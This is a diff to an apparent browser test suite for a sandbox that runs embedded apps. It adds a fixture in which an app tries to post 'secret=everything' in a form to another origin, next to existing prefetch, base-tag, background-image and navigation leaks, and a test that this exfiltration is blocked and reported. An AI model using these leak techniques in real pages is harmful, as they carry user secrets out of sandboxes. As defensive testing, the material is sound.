@@ -113,11 +113,18 @@ const LEAKS = (origin) => `
   document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: at("prefetch") }));
   document.head.append(Object.assign(document.createElement("base"), { href: at("base/") }));
   document.body.style.background = "url(" + at("background.png") + ")";
-  const form = add("form", { action: at("form"), method: "post" }); form.submit();
   await new Promise((done) => setTimeout(done, 400));
   await report(got);
   location.href = at("self?secret=everything");
   setTimeout(() => { location.href = "about:blank#" + at("later"); }, 200);`;
+
+// A form that is refused takes its page along: the browser shows an error in its place. So it is the last that this page does.
+const FORM = (origin) => `
+  await start();
+  await report("before the form");
+  const form = Object.assign(document.createElement("form"), { action: "${origin}/form?secret=everything", method: "post" });
+  document.body.append(form);
+  form.submit();`;
 
 for (const [where, base] of [["on a second origin", undefined], ["on a site with one origin", siteBelowPath]]) {
   journey(`X92 nothing undeclared leaves an app ${where}, not even by going there itself, and it is told`, { ...options, base }, async (stage) => {
@@ -131,6 +138,18 @@ for (const [where, base] of [["on a second origin", undefined], ["on a site with
     const words = await view.getByRole("group", { name: "Report about the app" }).textContent();
     const host = new URL(place.origin).host;
     for (const what of ["a request to", "a picture from", "a script from", "a frame or a move of the app to"]) assert.ok(words.includes(`${what} ${host}`), `${what} in ${words}`);
+
+    const { app } = stage;
+    const other = await stage.keep(appServer({ html: appPage(FORM(place.origin)), title: "Show the form" }));
+    await app.connect({ name: "Forms", url: other.url });
+    await app.chat();
+    await app.propose("show the form", {}, "Show the form");
+    await reported(other);
+    await stage.page.waitForTimeout(1200);
+    assert.deepEqual(place.heard, [], "no form arrived");
+    await app.app("Forms").getByText(/requests? blocked/).click();
+    const report = await app.app("Forms").getByRole("group", { name: "Report about the app" }).textContent();
+    assert.ok(["a form sent to", "a frame or a move of the app to"].some((what) => report.includes(`${what} ${host}`)), report);
   });
 }
 
@@ -362,10 +381,10 @@ journey("X98 an app that grows, floods or never ends is held in its place and ca
   await app.app("Flood").getByText("This app was stopped: it sent more messages than anybody needs.").waitFor({ timeout: 30_000 });
   assert.equal(await app.app("Flood").locator("iframe").count(), 0);
 
-  const hog = await stage.keep(appServer({ html: appPage("await start(); say('busy'); await new Promise((done) => setTimeout(done, 300)); for (;;);"), title: "Start the hog" }));
+  const hog = await stage.keep(appServer({ html: appPage("await start(); say('busy'); await new Promise((done) => setTimeout(done, 300)); for (;;);"), title: "Show the hog" }));
   await app.connect({ name: "Hog", url: hog.url });
   await app.chat();
-  await app.propose("start the hog", {}, "Start the hog");
+  await app.propose("show the hog", {}, "Show the hog");
   await app.app("Hog").locator("iframe").waitFor();
   await page.waitForTimeout(1500);
   const began = Date.now();
